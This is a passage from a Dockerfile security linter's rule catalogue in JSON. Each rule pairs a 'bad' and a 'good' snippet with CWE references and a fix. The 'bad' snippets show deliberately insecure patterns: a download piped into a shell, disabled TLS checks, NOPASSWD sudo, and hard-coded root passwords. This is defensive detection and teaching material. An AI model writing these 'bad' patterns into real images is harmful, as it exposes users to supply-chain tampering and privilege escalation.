      "CKV_DOCKER_7"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-base-image-no-digest",
    "title": "Base image not pinned by digest",
    "severity": "low",
    "cwe": [
      "CWE-494"
    ],
    "description": "Tags are mutable: the publisher (or anyone who takes over the repository) can point `node:20` at different content at any time. A digest names exactly one image, so the build gets the image that was reviewed.",
    "help": {
      "bad": "FROM python:3.12-slim\nCMD [\"python\", \"app.py\"]\n",
      "good": "FROM python:3.12-slim@sha256:2ec5a4a5c3e919570f57675471f081d6299668d909feabd8d4803c6c61af666c\nCMD [\"python\", \"app.py\"]\n",
      "fix": "Append the digest to the image reference (`image:tag@sha256:...`) and let a dependency bot update it."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#pin-base-image-versions",
      "https://docs.docker.com/reference/dockerfile/#from"
    ],
    "tags": [
      "dockerfile",
      "owasp:A08:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-cd-in-run",
    "title": "RUN starts with cd instead of using WORKDIR",
    "severity": "info",
    "cwe": [
      "CWE-710"
    ],
    "description": "A RUN that starts with `cd /dir && ...` changes directory for that RUN only. WORKDIR states the directory once, applies to the following instructions and is easier to read and to keep correct.",
    "help": {
      "bad": "FROM node:20.18-slim\nRUN cd /app && npm ci\n",
      "good": "FROM node:20.18-slim\nWORKDIR /app\nRUN npm ci\n",
      "fix": "Set the directory with WORKDIR before the RUN."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#workdir"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-chmod-world-writable",
    "title": "chmod makes files world-writable",
    "severity": "medium",
    "cwe": [
      "CWE-732"
    ],
    "description": "Modes such as 777, 666 or o+w let every user in the container modify the files. Any process that gets code execution, whatever user it runs as, can then replace binaries, scripts or configuration that the application trusts.",
    "help": {
      "bad": "FROM alpine:3.20\nCOPY entrypoint.sh /entrypoint.sh\nRUN chmod 777 /entrypoint.sh\n",
      "good": "FROM alpine:3.20\nCOPY --chmod=755 entrypoint.sh /entrypoint.sh\n",
      "fix": "Grant only what is needed (for example 755 for executables, 644 for files) and give write access to the owning user only (`COPY --chown` / `--chmod`)."
    },
    "references": [
      "https://man7.org/linux/man-pages/man1/chmod.1.html",
      "https://docs.docker.com/reference/dockerfile/#copy---chmod"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-chpasswd",
    "title": "Password set in the image with chpasswd",
    "severity": "medium",
    "cwe": [
      "CWE-259",
      "CWE-798"
    ],
    "description": "Setting a password while building (`echo user:pass | chpasswd`, `passwd --stdin`) writes it into the image: the plain text is in the build history and layer metadata, and every container from the image shares the same account password.",
    "help": {
      "bad": "FROM ubuntu:24.04\nRUN echo 'root:secret' | chpasswd\n",
      "good": "FROM ubuntu:24.04\nRUN useradd --create-home --shell /usr/sbin/nologin app\nUSER app\n",
      "fix": "Do not give accounts passwords in images; run as an unprivileged user and pass credentials at run time (secrets), not at build time."
    },
    "references": [
      "https://man7.org/linux/man-pages/man8/chpasswd.8.html",
      "https://docs.docker.com/build/building/secrets/"
    ],
    "tags": [
      "dockerfile",
      "owasp:A07:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV2_DOCKER_17"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-copy-from-invalid-stage",
    "title": "COPY --from refers to the current or a missing stage",
    "severity": "low",
    "cwe": [
      "CWE-710"
    ],
    "description": "`COPY --from` with a stage index must name an earlier stage, and a stage cannot copy from itself. Such references fail the build or, with a stage number that does not exist, are looked up as an image name in a registry.",
    "help": {
      "bad": "FROM golang:1.22 AS build\nRUN go build -o /app .\n\nFROM gcr.io/distroless/static-debian12:nonroot\nCOPY --from=2 /app /app\n",
      "good": "FROM golang:1.22 AS build\nRUN go build -o /app .\n\nFROM gcr.io/distroless/static-debian12:nonroot\nCOPY --from=build /app /app\n",
      "fix": "Refer to an earlier stage by its `AS` name."
    },
    "references": [
      "https://docs.docker.com/reference/dockerfile/#copy---from",
      "https://docs.docker.com/build/building/multi-stage/"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-copy-multiple-sources-dest",
    "title": "COPY with several sources to a destination not ending in /",
    "severity": "low",
    "cwe": [
      "CWE-710"
    ],
    "description": "When COPY or ADD has more than one source, the destination must be a directory written with a trailing `/`. Otherwise the build fails, or the meaning depends on whether the directory already exists.",
    "help": {
      "bad": "FROM node:20.18-slim\nCOPY package.json package-lock.json /app\n",
      "good": "FROM node:20.18-slim\nCOPY package.json package-lock.json /app/\n",
      "fix": "End the destination with `/`."
    },
    "references": [
      "https://docs.docker.com/reference/dockerfile/#copy"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-curl-insecure",
    "title": "curl with certificate verification disabled",
    "severity": "high",
    "cwe": [
      "CWE-295"
    ],
    "description": "`curl -k` / `--insecure` accepts any TLS certificate, so anyone on the network path (a proxy, a compromised mirror, a hostile Wi-Fi) can serve a different file, which then runs or ships in the image.",
    "help": {
      "bad": "FROM alpine:3.20\nRUN curl -kfsSL https://example.com/tool -o /usr/local/bin/tool\n",
      "good": "FROM alpine:3.20\nRUN curl -fsSL https://example.com/tool -o /usr/local/bin/tool\n",
      "fix": "Remove `-k`/`--insecure`; if the server uses a private CA, install that CA (or pass `--cacert`) instead."
    },
    "references": [
      "https://curl.se/docs/manpage.html#-k",
      "https://curl.se/docs/sslcerts.html"
    ],
    "tags": [
      "dockerfile",
      "owasp:A02:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV2_DOCKER_2"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-dnf-cache-not-cleaned",
    "title": "dnf install without cleaning the cache",
    "severity": "low",
    "cwe": [
      "CWE-710"
    ],
    "description": "dnf (and microdnf, tdnf) keep repository metadata and downloaded packages in /var/cache. Unless the same RUN cleans them, they stay in the image layer: a bigger image shipped with stale metadata.",
    "help": {
      "bad": "FROM fedora:41\nRUN dnf install -y httpd\n",
      "good": "FROM fedora:41\nRUN dnf install -y httpd && dnf clean all\n",
      "fix": "End the RUN with `dnf clean all` (`microdnf clean all`, `tdnf clean all`) or remove /var/cache/dnf in the same RUN."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#run",
      "https://dnf.readthedocs.io/en/latest/command_ref.html#clean-command-label"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-duplicate-stage-alias",
    "title": "Two build stages share a name",
    "severity": "low",
    "cwe": [
      "CWE-710"
    ],
    "description": "Stage names (`FROM ... AS name`, case-insensitive) must be unique. With a duplicate, `COPY --from=name` and `--target name` are ambiguous and the build fails or uses a stage other than the one intended.",
    "help": {
      "bad": "FROM node:20.18 AS build\nRUN npm ci\n\nFROM node:20.18 AS build\nRUN npm run build\n",
      "good": "FROM node:20.18 AS deps\nRUN npm ci\n\nFROM deps AS build\nRUN npm run build\n",
      "fix": "Give every stage its own name."
    },
    "references": [
      "https://docs.docker.com/build/building/multi-stage/#name-your-build-stages"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_DOCKER_11"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-expose-ssh",
    "title": "Port 22 (SSH) exposed",
    "severity": "low",
    "cwe": [
      "CWE-284"
    ],
    "description": "Exposing port 22 means the container runs an SSH server: another service with its own credentials and keys to manage and patch, and a way in that bypasses the orchestrator. Use `docker exec` / `kubectl exec` for access instead.",
    "help": {
      "bad": "FROM ubuntu:24.04\nEXPOSE 22 8080\n",
      "good": "FROM ubuntu:24.04\nEXPOSE 8080\n",
      "fix": "Remove the SSH server and the EXPOSE 22; debug through the container runtime."
    },
    "references": [
      "https://docs.docker.com/reference/dockerfile/#expose",
      "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_DOCKER_1"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-git-ssl-verify-disabled",
    "title": "Git certificate verification disabled",
    "severity": "high",
    "cwe": [
      "CWE-295"
    ],
    "description": "`GIT_SSL_NO_VERIFY` (set to any value) or `http.sslVerify false` make Git accept any TLS certificate, so a man in the middle can serve different source code, which is then built into the image.",
    "help": {
      "bad": "FROM alpine:3.20\nENV GIT_SSL_NO_VERIFY=1\nRUN git clone https://github.com/example/project.git\n",
      "good": "FROM alpine:3.20\nRUN git clone https://github.com/example/project.git\n",
      "fix": "Remove the setting; for a private CA, install the CA certificate or set `http.sslCAInfo`."
    },
    "references": [
      "https://git-scm.com/docs/git-config#Documentation/git-config.txt-httpsslVerify",
      "https://git-scm.com/docs/git#_environment_variables"
    ],
    "tags": [
      "dockerfile",
      "owasp:A02:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV2_DOCKER_14"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-maintainer-deprecated",
    "title": "MAINTAINER is deprecated",
    "severity": "info",
    "cwe": [
      "CWE-477"
    ],
    "description": "The MAINTAINER instruction is deprecated. A label carries the same information and can be read by tools.",
    "help": {
      "bad": "FROM alpine:3.20\nMAINTAINER Jane Doe <jane@example.com>\n",
      "good": "FROM alpine:3.20\nLABEL org.opencontainers.image.authors=\"jane@example.com\"\n",
      "fix": "Replace MAINTAINER with `LABEL org.opencontainers.image.authors=\"...\"`."
    },
    "references": [
      "https://docs.docker.com/reference/dockerfile/#maintainer-deprecated"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_DOCKER_6"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-missing-healthcheck",
    "title": "No HEALTHCHECK in the final image",
    "severity": "low",
    "cwe": [
      "CWE-754"
    ],
    "description": "Without a HEALTHCHECK, Docker and Swarm only know whether the process is alive, not whether it still answers. A hung service keeps receiving traffic. (Kubernetes ignores HEALTHCHECK and uses probes instead.) Only images that run something (CMD, ENTRYPOINT or EXPOSE) are checked.",
    "help": {
      "bad": "FROM nginx:1.27\nEXPOSE 80\n",
      "good": "FROM nginx:1.27\nEXPOSE 80\nHEALTHCHECK --interval=30s --timeout=3s CMD curl -fsS http://localhost/ || exit 1\n",
      "fix": "Add `HEALTHCHECK CMD <command that fails when the service is unhealthy>` to the final stage (or `HEALTHCHECK NONE` to state that none is wanted)."
    },
    "references": [
      "https://docs.docker.com/reference/dockerfile/#healthcheck"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "medium",
    "checkov": [
      "CKV_DOCKER_2"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-missing-user",
    "title": "No USER in the final stage (runs as the base image user, usually root)",
    "severity": "medium",
    "cwe": [
      "CWE-250"
    ],
    "description": "The final stage never sets USER, so the container runs as the base image user, which is root for almost all images. A compromise of the application then has full control of the container and a better chance of escaping it. Known non-root bases (distroless `:nonroot`, `*-nonroot`, Chainguard) and `scratch` are not reported.",
    "help": {
      "bad": "FROM python:3.12-slim\nCOPY app.py /app/\nCMD [\"python\", \"/app/app.py\"]\n",
      "good": "FROM python:3.12-slim\nRUN useradd --create-home --uid 10001 app\nCOPY app.py /app/\nUSER app\nCMD [\"python\", \"/app/app.py\"]\n",
      "fix": "Create an unprivileged user and add `USER <name or uid>` to the final stage."
    },
    "references": [
      "https://docs.docker.com/reference/dockerfile/#user",
      "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html#rule-2-set-a-user"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "medium",
    "checkov": [
      "CKV_DOCKER_3"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-multiple-cmd-entrypoint",
    "title": "CMD or ENTRYPOINT overridden later in the same stage",
    "severity": "low",
    "cwe": [
      "CWE-561"
    ],
    "description": "Only the last CMD and the last ENTRYPOINT of a stage take effect. Earlier ones are dead code that suggests the image runs something it does not.",
    "help": {
      "bad": "FROM python:3.12-slim\nCMD [\"python\", \"worker.py\"]\nCMD [\"python\", \"app.py\"]\n",
      "good": "FROM python:3.12-slim\nCMD [\"python\", \"app.py\"]\n",
      "fix": "Keep one CMD and one ENTRYPOINT per stage."
    },
    "references": [
      "https://docs.docker.com/reference/dockerfile/#cmd",
      "https://docs.docker.com/reference/dockerfile/#entrypoint"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-npm-install-not-ci",
    "title": "npm install used instead of npm ci",
    "severity": "low",
    "cwe": [
      "CWE-1357"
    ],
    "description": "`npm install` may resolve newer versions than the lockfile and rewrite it, so the image can contain dependencies nobody reviewed. `npm ci` installs exactly what package-lock.json lists and fails if it does not match package.json. Reported only when a lockfile is copied into the stage.",
    "help": {
      "bad": "FROM node:20.18-slim\nWORKDIR /app\nCOPY package.json package-lock.json ./\nRUN npm install\n",
      "good": "FROM node:20.18-slim\nWORKDIR /app\nCOPY package.json package-lock.json ./\nRUN npm ci\n",
      "fix": "Use `npm ci` (with `--omit=dev` for production images)."
    },
    "references": [
      "https://docs.npmjs.com/cli/commands/npm-ci"
    ],
    "tags": [
      "dockerfile",
      "owasp:A06:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-npm-strict-ssl-disabled",
    "title": "npm/yarn certificate verification disabled",
    "severity": "high",
    "cwe": [
      "CWE-295"
    ],
    "description": "`strict-ssl false` (or `NPM_CONFIG_STRICT_SSL=false`) makes npm and yarn accept any TLS certificate from the registry, so a man in the middle can serve modified packages that run at install time and ship in the image.",
    "help": {
      "bad": "FROM node:20.18-slim\nRUN npm config set strict-ssl false && npm ci\n",
      "good": "FROM node:20.18-slim\nRUN npm ci\n",
      "fix": "Remove the setting; for a registry with a private CA, set `cafile` (or `NODE_EXTRA_CA_CERTS`) to that CA."
    },
    "references": [
      "https://docs.npmjs.com/cli/using-npm/config#strict-ssl",
      "https://classic.yarnpkg.com/lang/en/docs/cli/config/"
    ],
    "tags": [
      "dockerfile",
      "owasp:A02:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV2_DOCKER_12",
      "CKV2_DOCKER_13"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-package-signature-bypass",
    "title": "Package signature verification disabled",
    "severity": "high",
    "cwe": [
      "CWE-347",
      "CWE-494"
    ],
    "description": "Options such as `--allow-unauthenticated`, `--force-yes`, `--allow-untrusted`, `--nogpgcheck`, `--nosignature` or `[trusted=yes]` install packages whose signatures are missing or wrong. A tampered mirror or a man in the middle can then put any code into the image.",
    "help": {
      "bad": "FROM debian:12\nRUN apt-get update && apt-get install -y --allow-unauthenticated curl && rm -rf /var/lib/apt/lists/*\n",
      "good": "FROM debian:12\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\n",
      "fix": "Remove the option and import the repository signing key instead (`signed-by=` for apt, the repository key for apk/rpm)."
    },
    "references": [
      "https://manpages.debian.org/stable/apt/apt-get.8.en.html",
      "https://wiki.alpinelinux.org/wiki/Alpine_Package_Keeper",
      "https://dnf.readthedocs.io/en/latest/conf_ref.html"
    ],
    "tags": [
      "dockerfile",
      "owasp:A08:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV2_DOCKER_7",
      "CKV2_DOCKER_8",
      "CKV2_DOCKER_9",
      "CKV2_DOCKER_10",
      "CKV2_DOCKER_11"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-passwordless-sudo",
    "title": "Passwordless sudo granted in the image",
    "severity": "medium",
    "cwe": [
      "CWE-250",
      "CWE-269"
    ],
    "description": "A sudoers rule with NOPASSWD lets the container user become root without any credential. Running as a non-root USER then protects nothing: any code execution in the container is root execution.",
    "help": {
      "bad": "FROM ubuntu:24.04\nRUN useradd -m app && echo \"app ALL=(ALL) NOPASSWD:ALL\" >> /etc/sudoers\nUSER app\n",
      "good": "FROM ubuntu:24.04\nRUN useradd -m app\nUSER app\n",
      "fix": "Do the privileged steps at build time as root, then switch to the unprivileged user without sudo rights."
    },
    "references": [
      "https://www.sudo.ws/docs/man/sudoers.man/",
      "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-pip-no-cache-dir",
    "title": "pip install without --no-cache-dir",
    "severity": "low",
    "cwe": [
      "CWE-710"
    ],
    "description": "pip keeps downloaded wheels in ~/.cache/pip. In an image build that cache is never reused, but it stays in the layer and can add hundreds of megabytes.",
    "help": {
      "bad": "FROM python:3.12-slim\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n",
      "good": "FROM python:3.12-slim\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\n",
      "fix": "Add `--no-cache-dir`, set `ENV PIP_NO_CACHE_DIR=1`, or use a cache mount (`RUN --mount=type=cache,target=/root/.cache/pip`)."
    },
    "references": [
      "https://pip.pypa.io/en/stable/topics/caching/",
      "https://docs.docker.com/build/building/best-practices/#run"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-pip-trusted-host",
    "title": "pip trusts a host without certificate verification",
    "severity": "medium",
    "cwe": [
      "CWE-295"
    ],
    "description": "`--trusted-host` (or `PIP_TRUSTED_HOST`) makes pip accept plain HTTP and any TLS certificate for that host. Whoever sits on the network path can serve modified packages, which run at install time and ship in the image.",
    "help": {
      "bad": "FROM python:3.12-slim\nRUN pip install --no-cache-dir --trusted-host pypi.example.com -i http://pypi.example.com/simple flask\n",
      "good": "FROM python:3.12-slim\nRUN pip install --no-cache-dir -i https://pypi.example.com/simple flask\n",
      "fix": "Serve the index over HTTPS with a valid certificate; for a private CA, pass it with `--cert` or `PIP_CERT`."
    },
    "references": [
      "https://pip.pypa.io/en/stable/cli/pip/#cmdoption-trusted-host"
    ],
    "tags": [
      "dockerfile",
      "owasp:A02:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV2_DOCKER_4",
      "CKV2_DOCKER_16"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-pipe-to-shell",
    "title": "Downloaded script piped into a shell",
    "severity": "high",
    "cwe": [
      "CWE-494",
      "CWE-829"
    ],
    "description": "`curl ... | sh` runs whatever the server returns, with no integrity check, as the build user (usually root). A compromised server, a hijacked domain or a truncated download executes arbitrary code in the build and ships its result.",
    "help": {
      "bad": "FROM debian:12\nRUN curl -fsSL https://example.com/install.sh | sh\n",
      "good": "FROM debian:12\nRUN curl -fsSLo /tmp/install.sh https://example.com/install.sh \\\n && echo \"8a1c9f0e2b7d3c4a5f6e7d8c9b0a1f2e3d4c5b6a7f8e9d0c1b2a3f4e5d6c7b8a  /tmp/install.sh\" | sha256sum -c - \\\n && sh /tmp/install.sh\n",
      "fix": "Download to a file, verify its checksum or signature, then run it (or install a packaged, signed version)."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#using-pipes",
      "https://cwe.mitre.org/data/definitions/494.html"
    ],
    "tags": [
      "dockerfile",
      "owasp:A08:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-plain-http-download",
    "title": "Download over unencrypted HTTP",
    "severity": "medium",
    "cwe": [
      "CWE-319",
      "CWE-494"
    ],
    "description": "Files fetched with curl, wget or git over `http://` (or `git://`) travel unencrypted and unauthenticated: anyone on the network path can replace them. RUN instructions that verify a checksum or signature (`sha256sum -c`, `gpg --verify`) are not reported.",
    "help": {
      "bad": "FROM debian:12\nRUN curl -fsSLo /usr/local/bin/tool http://downloads.example.com/tool && chmod +x /usr/local/bin/tool\n",
      "good": "FROM debian:12\nRUN curl -fsSLo /usr/local/bin/tool https://downloads.example.com/tool && chmod +x /usr/local/bin/tool\n",
      "fix": "Use `https://` (and verify a checksum or signature of what you download)."
    },
    "references": [
      "https://cwe.mitre.org/data/definitions/319.html",
      "https://docs.docker.com/build/building/best-practices/#add-or-copy"
    ],
    "tags": [
      "dockerfile",
      "owasp:A02:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-root-user",
    "title": "Container runs as root (last USER is root)",
    "severity": "medium",
    "cwe": [
      "CWE-250"
    ],
    "description": "The last USER of the final stage is root, so the container process runs as root. A compromise of the application then has full control of the container and a much better chance of escaping it (kernel or runtime bugs, mounted sockets, writable host paths).",
    "help": {
      "bad": "FROM node:20.18-slim\nWORKDIR /app\nCOPY . .\nUSER root\nCMD [\"node\", \"server.js\"]\n",
      "good": "FROM node:20.18-slim\nWORKDIR /app\nCOPY . .\nUSER node\nCMD [\"node\", \"server.js\"]\n",
      "fix": "Switch to an unprivileged user (`USER app` or a numeric UID such as `USER 10001`) after the steps that need root."
    },
    "references": [
      "https://docs.docker.com/reference/dockerfile/#user",
      "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html#rule-2-set-a-user"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_DOCKER_8"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-run-security-insecure",
    "title": "RUN --security=insecure (privileged build step)",
    "severity": "high",
    "cwe": [
      "CWE-250"
    ],
    "description": "`RUN --security=insecure` runs the step without the sandbox, like a privileged container: it can reach host devices and kernel interfaces. A compromised dependency installed in that step can take over the build host.",
    "help": {
      "bad": "# syntax=docker/dockerfile:1-labs\nFROM alpine:3.20\nRUN --security=insecure mount -t tmpfs none /mnt\n",
      "good": "# syntax=docker/dockerfile:1\nFROM alpine:3.20\nRUN --mount=type=tmpfs,target=/mnt ls /mnt\n",
      "fix": "Remove `--security=insecure`; use mounts (`--mount=type=tmpfs|cache|secret`) for what the step needs."
    },
    "references": [
      "https://docs.docker.com/reference/dockerfile/#run---security"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-secret-in-env-arg",
    "title": "Secret hard-coded in ENV or ARG",
    "severity": "high",
    "cwe": [
      "CWE-798",
      "CWE-538"
    ],
    "description": "ENV values are stored in the image configuration and ARG values in its build history: anyone who can pull the image can read them with `docker history` or `docker inspect`. A password, token or key written there is leaked to every user of the image and stays in every copy of it.",
    "help": {
      "bad": "FROM mysql:8.4\nENV MYSQL_ROOT_PASSWORD=rootpass2024\n",
      "good": "FROM mysql:8.4\nENV MYSQL_ROOT_PASSWORD_FILE=/run/secrets/mysql_root_password\n",
      "fix": "Pass build-time secrets with `RUN --mount=type=secret` and runtime secrets through the orchestrator (environment, secret files); rotate the leaked value."
    },
    "references": [
      "https://docs.docker.com/build/building/secrets/",
      "https://docs.docker.com/reference/dockerfile/#arg"
    ],
    "tags": [
      "dockerfile",
      "owasp:A07:2021"
    ],
    "precision": "medium",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-shell-form-cmd",
    "title": "CMD or ENTRYPOINT in shell form",
    "severity": "low",
    "cwe": [
      "CWE-404"
    ],
    "description": "In shell form (`CMD node server.js`) the command runs under `/bin/sh -c`, so the shell is PID 1: `docker stop` signals never reach the application, which is killed after the timeout without a clean shutdown (lost requests, unflushed data). With a shell-form ENTRYPOINT, CMD and `docker run` arguments are ignored. Only the effective (last) CMD and ENTRYPOINT of each stage are checked; commands that start with `exec` are fine.",
    "help": {
      "bad": "FROM node:20.18-slim\nCMD node server.js\n",
      "good": "FROM node:20.18-slim\nCMD [\"node\", \"server.js\"]\n",
      "fix": "Use the exec (JSON array) form: `CMD [\"node\", \"server.js\"]`, or prefix the shell form with `exec`."
    },
    "references": [
      "https://docs.docker.com/reference/dockerfile/#shell-and-exec-form",
      "https://docs.docker.com/reference/dockerfile/#entrypoint"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-ssh-key-copied",
    "title": "SSH private key copied into the image",
    "severity": "high",
    "cwe": [
      "CWE-522",
      "CWE-538"
    ],
    "description": "COPY or ADD of `id_rsa`, `id_ed25519` or an `.ssh` folder writes the private key into a layer. Deleting it in a later step does not remove it from the layer; anyone who can pull the image (or the build cache) gets the key and whatever it opens.",
    "help": {
      "bad": "FROM alpine:3.20\nCOPY id_rsa /root/.ssh/id_rsa\nRUN git clone git@github.com:example/private.git\n",
      "good": "# syntax=docker/dockerfile:1\nFROM alpine:3.20\nRUN --mount=type=ssh git clone git@github.com:example/private.git\n",
      "fix": "Use `RUN --mount=type=ssh` (with `docker build --ssh default`) so the key is only available during that step, and rotate the exposed key."
    },
    "references": [
      "https://docs.docker.com/reference/dockerfile/#run---mounttypessh",
      "https://docs.docker.com/build/building/secrets/"
    ],
    "tags": [
      "dockerfile",
      "owasp:A07:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-sudo",
    "title": "sudo used in RUN",
    "severity": "medium",
    "cwe": [
      "CWE-250"
    ],
    "description": "Using sudo in a build means the image ships sudo and a user allowed to use it, so a non-root USER can become root again. sudo also behaves unpredictably without a TTY and with signal forwarding.",
    "help": {
      "bad": "FROM ubuntu:24.04\nUSER app\nRUN sudo apt-get update\n",
      "good": "FROM ubuntu:24.04\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\nUSER app\n",
      "fix": "Run privileged steps before switching USER (or switch to `USER root` for them and back); use `gosu` if the entrypoint must drop privileges."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#user"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV2_DOCKER_1"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-tls-verify-disabled-env",
    "title": "TLS certificate verification disabled by an environment variable",
    "severity": "high",
    "cwe": [
      "CWE-295"
    ],
    "description": "`NODE_TLS_REJECT_UNAUTHORIZED=0`, `PYTHONHTTPSVERIFY=0` and `GOINSECURE` turn off certificate checks for every connection the runtime makes. Set in ENV, they stay on in every container: the application talks to APIs and databases that anyone on the path can impersonate.",
    "help": {
      "bad": "FROM node:20.18-slim\nENV NODE_TLS_REJECT_UNAUTHORIZED=0\nCMD [\"node\", \"server.js\"]\n",
      "good": "FROM node:20.18-slim\nENV NODE_EXTRA_CA_CERTS=/etc/ssl/certs/internal-ca.pem\nCMD [\"node\", \"server.js\"]\n",
      "fix": "Remove the variable; to trust a private CA, add it (`NODE_EXTRA_CA_CERTS`, the system CA store, `SSL_CERT_FILE`)."
    },
    "references": [
      "https://nodejs.org/api/cli.html#node_tls_reject_unauthorizedvalue",
      "https://peps.python.org/pep-0493/",
      "https://go.dev/ref/mod#environment-variables"
    ],
    "tags": [
      "dockerfile",
      "owasp:A02:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV2_DOCKER_5",
      "CKV2_DOCKER_6"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-wget-no-check-certificate",
    "title": "wget with certificate verification disabled",
    "severity": "high",
    "cwe": [
      "CWE-295"
    ],
    "description": "`wget --no-check-certificate` (or `check_certificate = off` in .wgetrc) accepts any TLS certificate, so anyone on the network path can serve a different file, which then runs or ships in the image.",
    "help": {
      "bad": "FROM debian:12\nRUN wget --no-check-certificate https://example.com/tool.tar.gz\n",
      "good": "FROM debian:12\nRUN wget https://example.com/tool.tar.gz\n",
      "fix": "Remove the option; for a private CA, install it or pass `--ca-certificate`."
    },
    "references": [
      "https://www.gnu.org/software/wget/manual/wget.html#HTTPS-_0028SSL_002fTLS_0029-Options"
    ],
    "tags": [
      "dockerfile",
      "owasp:A02:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV2_DOCKER_3"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-workdir-relative",
    "title": "WORKDIR is a relative path",
    "severity": "low",
    "cwe": [
      "CWE-710"
    ],
    "description": "A relative WORKDIR is resolved against the previous WORKDIR, which may come from the base image and change with it. Files then land in unexpected places; an absolute path says exactly where the application lives.",
    "help": {
      "bad": "FROM node:20.18-slim\nWORKDIR app\n",
      "good": "FROM node:20.18-slim\nWORKDIR /app\n",
      "fix": "Use an absolute path (`WORKDIR /app`)."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#workdir",
      "https://docs.docker.com/reference/dockerfile/#workdir"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_DOCKER_10"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-yum-cache-not-cleaned",
    "title": "yum install without yum clean all",
    "severity": "low",
    "cwe": [
      "CWE-710"
    ],
    "description": "yum keeps repository metadata and downloaded packages in /var/cache/yum. Unless the same RUN cleans them, they stay in the image layer: a bigger image shipped with stale metadata.",
    "help": {
      "bad": "FROM centos:7\nRUN yum install -y httpd\n",
      "good": "FROM centos:7\nRUN yum install -y httpd && yum clean all && rm -rf /var/cache/yum\n",
